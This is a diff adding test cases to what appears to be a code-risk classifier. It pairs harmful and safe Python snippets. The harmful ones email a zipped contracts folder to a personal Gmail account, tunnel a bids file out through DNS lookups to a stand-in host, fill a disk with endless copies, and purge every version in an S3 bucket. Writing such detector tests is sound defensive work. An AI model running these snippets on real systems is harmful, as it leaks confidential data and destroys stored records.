@@ -7005,6 +7005,73 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '    tf.addfile(link)\n',
             S,
         ),
+        # holdout189 and 191 left open: a folder's archive to a personal mailbox, DNS tunnels, copies every round,
+        # object versions purged
+        (
+            'import smtplib, shutil\n'
+            'from email.message import EmailMessage\n'
+            "archive = shutil.make_archive('/tmp/dc', 'zip', '/srv/doccontrol/Contracts')\n"
+            'msg = EmailMessage()\n'
+            "msg['To'] = 'm.ortega.bids@gmail.com'\n"
+            "with open(archive, 'rb') as f:\n"
+            "    msg.add_attachment(f.read(), maintype='application', subtype='zip', filename"
+            "='c.zip')\n"
+            "with smtplib.SMTP('smtp.gmail.com', 587) as s:\n"
+            '    s.send_message(msg)\n',
+            H,
+        ),
+        (
+            'import smtplib, shutil\n'
+            'from email.message import EmailMessage\n'
+            "archive = shutil.make_archive('/tmp/report', 'zip', 'reports')\n"
+            'msg = EmailMessage()\n'
+            "msg['To'] = 'team@example.com'\n"
+            "with open(archive, 'rb') as f:\n"
+            "    msg.add_attachment(f.read(), maintype='application', subtype='zip', filename"
+            "='r.zip')\n"
+            "with smtplib.SMTP('smtp.example.com') as s:\n"
+            '    s.send_message(msg)\n',
+            S,
+        ),
+        (
+            'import base64, socket\n'
+            "data = base64.b32encode(open('/srv/bids/final.csv', 'rb').read()).decode().lower"
+            '()\n'
+            'for i in range(0, len(data), 60):\n'
+            "    socket.gethostbyname(f'{data[i:i+60]}.{i}.x.example-cdn.net')\n",
+            H,
+        ),
+        (
+            'import socket\n'
+            "for h in ['web1', 'web2']:\n"
+            "    print(socket.gethostbyname(f'{h}.internal.example.com'))\n",
+            S,
+        ),
+        (
+            'import itertools, os, shutil\n'
+            'def spam(i):\n'
+            '    for n in itertools.count():\n'
+            "        shutil.copyfile('/srv/cam/latest.jpg', os.path.join('/srv/cam/archive', "
+            "f'copy_{i}_{n}.jpg'))\n"
+            'spam(1)\n',
+            H,
+        ),
+        (
+            'import shutil, time\n'
+            'while True:\n'
+            "    shutil.copyfile('/srv/cam/latest.jpg', '/srv/cam/current.jpg')\n"
+            '    time.sleep(60)\n',
+            S,
+        ),
+        (
+            'import boto3\n'
+            "s3 = boto3.client('s3')\n"
+            "for page in s3.get_paginator('list_object_versions').paginate(Bucket='b'):\n"
+            "    objs = [{'Key': v['Key'], 'VersionId': v['VersionId']} for v in page.get('Ve"
+            "rsions', [])]\n"
+            "    s3.delete_objects(Bucket='b', Delete={'Objects': objs})\n",
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
